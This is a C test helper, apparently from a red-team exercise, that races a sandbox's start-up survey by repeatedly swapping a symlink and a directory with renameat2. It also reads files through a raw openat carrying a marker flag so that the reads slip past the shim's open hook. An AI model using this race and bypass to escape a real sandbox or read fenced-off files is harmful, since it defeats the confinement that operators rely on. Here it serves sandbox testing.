/* survey_race: the two sides of a start-up race on the floor's survey (red team s6,
 * finding 15).
 *   flipburst A B  exchanges the names A and B (renameat2 RENAME_EXCHANGE) until killed,
 *                  in bursts of 64, 3 ms apart:
 *                  the racer outside the sandbox.
 *   flipuntil A B GO READY
 *                  the same until GO exists; then leaves the symlink at A (the directory
 *                  at B), creates READY and exits (finding 14).
 *   movewhen GO READY SRC DST [reads...]
 *                  creates GO, waits (60 s at most) until READY exists, then renames SRC
 *                  to DST and prints "rename: ok" or "rename: errno N"; then the reads.
 *   read P         reads P through libc's open (the shim's hook in a dynamic build; a
 *                  plain system call in a static one).
 *   mread MARK P   reads P through a raw openat carrying MARK (NATIVE_OPEN_MARK), which
 *                  the seccomp filter leaves to Landlock.
 * Each read prints "P: " and the file's first line, or "P: errno N". */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static void show(const char *path, long fd) {
    if (fd < 0) { printf("%s: errno %d\n", path, errno); return; }
    char buf[256];
    long n = read((int)fd, buf, sizeof buf - 1);
    close((int)fd);
    if (n < 0) { printf("%s: errno %d\n", path, errno); return; }
    buf[n] = 0;
    char *nl = strchr(buf, '\n');
    if (nl) *nl = 0;
    printf("%s: %s\n", path, buf);
}

int main(int argc, char **argv) {
    if (argc == 4 && !strcmp(argv[1], "flipburst")) {
        /* Bursts of 64 exchanges (an even number: each burst ends where it began), 3 ms
         * apart: a start that meets a burst races it, one that falls between them runs. */
        struct timespec gap = {0, 3000000};
        for (;;) {
            for (int i = 0; i < 64; i++)
                syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2 /* EXCHANGE */);
            nanosleep(&gap, 0);
        }
    }
    if (argc == 6 && !strcmp(argv[1], "flipuntil")) {
        while (access(argv[4], F_OK) != 0)
            syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2 /* EXCHANGE */);
        struct stat st;
        if (lstat(argv[2], &st) == 0 && !S_ISLNK(st.st_mode))
            syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2 /* EXCHANGE */);
        int fd = open(argv[5], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        return fd < 0 ? 1 : 0;
    }
    int first = 1;
    if (argc >= 6 && !strcmp(argv[1], "movewhen")) {
        int fd = open(argv[2], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (fd < 0) { printf("go: errno %d\n", errno); return 1; }
        close(fd);
        struct timespec ms = {0, 1000000};
        int waited = 0;
        while (access(argv[3], F_OK) != 0) {
            if (++waited > 60000) { printf("ready: never\n"); return 1; }
            nanosleep(&ms, 0);
        }
        if (rename(argv[4], argv[5]) == 0) printf("rename: ok\n");
        else printf("rename: errno %d\n", errno);
        fflush(stdout);
        first = 6;
    }
    for (int i = first; i < argc; i++) {
        if (!strcmp(argv[i], "read") && i + 1 < argc) {
            const char *p = argv[++i];
            show(p, open(p, O_RDONLY | O_CLOEXEC));
        } else if (!strcmp(argv[i], "mread") && i + 2 < argc) {
            unsigned long mark = strtoul(argv[++i], 0, 0);
            const char *p = argv[++i];
            show(p, syscall(SYS_openat, AT_FDCWD, p, O_RDONLY | O_CLOEXEC | mark, 0));
        } else {
            printf("usage\n");
            return 2;
        }
        fflush(stdout);
    }
    return 0;
}
